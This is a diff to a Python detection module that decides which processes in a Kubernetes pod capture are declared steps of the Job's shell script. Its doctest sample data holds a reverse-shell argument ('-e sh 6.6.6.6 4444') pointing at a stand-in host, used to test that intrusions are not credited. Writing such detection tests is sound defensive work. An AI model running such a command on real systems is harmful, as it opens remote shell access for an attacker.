@@ -5,8 +5,7 @@ A pod made by Kubernetes' Job controller runs the command its Job declares
 bare Pod does the same without the ``job-name`` label.  What the pod's spec declares is seen in
 the capture itself: the container's main process (of its pod's own tree, its parent the runtime)
 is a shell or an interpreter (:data:`~._endpoints.INTERPRETER`) given its program on the command line (``sh -c 'apk add curl && curl -fsSL … | tar xz
--C /tmp && /tmp/migrate up'``).  :func:`declared_steps` credits that process and each *step* of
-its script — a child it started whose binary the script names (``apk``, ``curl``, ``tar``,
+-C /tmp && /tmp/migrate up'``).  :func:`declared_steps` credits each *step* of its script — a child it started whose binary the script names (``apk``, ``curl``, ``tar``,
 ``/tmp/migrate``) — and what a step started at once (within ``service_age`` of the step's start:
 not what a step that runs a server started later, on a request).  A child the script does not
 name (a server's injected shell below ``sh -c 'python app.py'`` is the server's, not the
@@ -25,7 +24,7 @@ credential that probed its rights or was refused in the capture (a stolen token'
 ...              "xz -C /tmp", "up", "-e sh 6.6.6.6 4444"],
 ...     "start_ns": [0, 10, 11, 11, 20, 30]})
 >>> declared_steps(procs)["exec_id"].to_list()
-['sh', 'curl', 'tar', 'tool']
+['curl', 'tar', 'tool']
 """
 
 from __future__ import annotations
@@ -42,7 +41,7 @@ NS = 1_000_000_000
 STEP_NS = 60 * NS
 #: How deep below a step its processes are followed.
 _DEPTH = 8
-REASON = "runs the script its pod's spec declares (the container's main process and its steps)"
+REASON = "a step of the script its container's spec declares (its main process's -c)"
 #: A shell given its program on the command line: a short-option cluster with ``c`` (``-c``, ``-ec``).
 _SCRIPT_FLAG = r"(?:^|\s)-[a-zA-Z]*c[a-zA-Z]*\s+(.*)$"
 #: The words of a script that may name a program (split on blanks and the shell's operators).
@@ -85,7 +84,8 @@ def declared_steps(procs: pl.DataFrame, s: RoutineSettings = DEFAULT) -> pl.Data
         if nxt.height == 0:
             break
         member, frontier = pl.concat([member, nxt]), nxt
-    ids = pl.concat([m["exec_id"], member["exec_id"]]).unique(maintain_order=True)
+    # the steps, not the shell itself: what it does on its own is no step its script names
+    ids = member["exec_id"].unique(maintain_order=True)
     return pl.DataFrame({"exec_id": ids}).select(
         "exec_id", pl.lit(s.w_job).alias("weight"), pl.lit(REASON).alias("reason")).cast(RULE_COLUMNS)  # type: ignore[arg-type]
 
